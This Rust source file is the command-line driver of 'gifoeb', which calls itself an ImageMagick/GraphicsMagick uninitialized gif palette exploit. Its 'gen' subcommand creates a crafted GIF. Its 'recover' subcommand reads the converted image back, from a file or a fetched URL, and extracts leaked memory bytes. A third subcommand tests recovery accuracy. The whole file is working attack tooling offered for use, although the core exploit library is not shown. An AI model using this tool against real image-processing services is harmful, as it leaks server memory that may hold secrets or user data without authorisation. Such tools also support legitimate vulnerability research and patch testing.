use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use anyhow::{bail, Context, Result};
use clap::{Parser, Subcommand};

use gifoeb::palette::{lorem_palette, random_palette};
use gifoeb::{
    converter_for, generate_dump, load_picture, recover, test_recover, AccuracyOptions,
    ColorCount, DumpRequest, Format, Geometry, Tool,
};

/// ImageMagick/GraphicsMagick uninitialized gif palette exploit
#[derive(Parser)]
#[command(name = "gifoeb", version, about)]
struct Args {
    /// Tool for internal conversion operations: IM, GM or native
    #[arg(long, default_value = "IM", value_parser = parse::<Tool>)]
    tool: Tool,

    #[command(subcommand)]
    command: Cmd,
}

#[derive(Subcommand)]
enum Cmd {
    /// Generate dumping gif
    Gen {
        /// Try to generate fake animation
        #[arg(long)]
        animate: bool,

        /// Dump less than 256 colors (will dump COLORS*3 bytes)
        #[arg(long, default_value = "256", value_parser = parse::<ColorCount>)]
        colors: ColorCount,

        /// Geometry of the picture (WxH), must match converted picture geometry
        #[arg(value_parser = parse::<Geometry>)]
        geometry: Geometry,

        /// Where to save the result ('-' for stdout)
        #[arg(default_value = "-")]
        output: String,
    },

    /// Recover memory from converted image
    Recover {
        /// Recover less than 256 colors (must be the value used when running "gen")
        #[arg(long, default_value = "256", value_parser = parse::<ColorCount>)]
        colors: ColorCount,

        /// Input file (path or url, '-' for stdin); geometry must match the generated gif
        input: String,

        /// Where to save the result ('-' for stdout)
        #[arg(default_value = "-")]
        output: String,
    },

    /// Test recovery
    #[command(name = "recover_test")]
    RecoverTest {
        /// Geometry of the picture (WxH)
        #[arg(value_parser = parse::<Geometry>)]
        geometry: Geometry,

        /// Format to test
        #[arg(long, default_value = "png", value_parser = parse::<Format>)]
        format: Format,

        /// Emulate random memory contents (default: "Lorem ipsum" text)
        #[arg(long)]
        randomize: bool,

        /// Save the converted picture
        #[arg(long)]
        save_pict: Option<PathBuf>,

        /// Pass '-quality' to the converter
        #[arg(long)]
        quality: Option<u32>,

        /// Test less than 256 colors
        #[arg(long, default_value = "256", value_parser = parse::<ColorCount>)]
        colors: ColorCount,
    },
}

/// Adapts the library's `FromStr` validation to clap.
fn parse<T>(s: &str) -> std::result::Result<T, String>
where
    T: std::str::FromStr<Err = gifoeb::Error>,
{
    s.parse().map_err(|e: gifoeb::Error| e.to_string())
}

fn main() -> Result<()> {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info"))
        .target(env_logger::Target::Stderr)
        .init();

    let args = Args::parse();
    let converter = converter_for(args.tool);

    match args.command {
        Cmd::Gen {
            animate,
            colors,
            geometry,
            output,
        } => {
            let request = DumpRequest {
                geometry,
                colors,
                animate,
            };
            let gif = generate_dump(&converter, &request, &mut rand::thread_rng())
                .context("generating dump")?;
            write_output(&output, &gif)?;
        }
        Cmd::Recover {
            colors,
            input,
            output,
        } => {
            let image = read_input(&input)?;
            let grid = load_picture(&converter, &image, 0).context("loading picture")?;
            let palette = recover(&grid, colors).context("recovering palette")?;
            write_output(&output, &palette.to_bytes())?;
        }
        Cmd::RecoverTest {
            geometry,
            format,
            randomize,
            save_pict,
            quality,
            colors,
        } => {
            let palette = if randomize {
                random_palette(&mut rand::thread_rng())
            } else {
                lorem_palette()
            };
            let options = AccuracyOptions {
                format,
                quality,
                colors,
            };
            let report = test_recover(&converter, &palette, geometry, &options)
                .context("running recovery test")?;
            if let Some(path) = save_pict {
                std::fs::write(&path, &report.image)
                    .with_context(|| format!("saving picture to {}", path.display()))?;
            }
            println!("{report}");
        }
    }
    Ok(())
}

fn read_input(input: &str) -> Result<Vec<u8>> {
    if input == "-" {
        let mut data = Vec::new();
        std::io::stdin()
            .lock()
            .read_to_end(&mut data)
            .context("reading stdin")?;
        return Ok(data);
    }
    if Path::new(input).is_file() {
        return std::fs::read(input).with_context(|| format!("reading {input}"));
    }
    if input.to_ascii_lowercase().starts_with("http") {
        log::info!("fetching {input}");
        let response = reqwest::blocking::get(input)
            .and_then(reqwest::blocking::Response::error_for_status)
            .with_context(|| format!("fetching {input}"))?;
        let body = response.bytes().context("reading response body")?;
        return Ok(body.to_vec());
    }
    bail!("can't understand input {input:?}: not a file, '-' or a URL")
}

fn write_output(output: &str, data: &[u8]) -> Result<()> {
    if output == "-" {
        let mut stdout = std::io::stdout().lock();
        stdout.write_all(data).context("writing stdout")?;
        stdout.flush().context("flushing stdout")?;
    } else {
        std::fs::write(output, data).with_context(|| format!("writing {output}"))?;
    }
    Ok(())
}
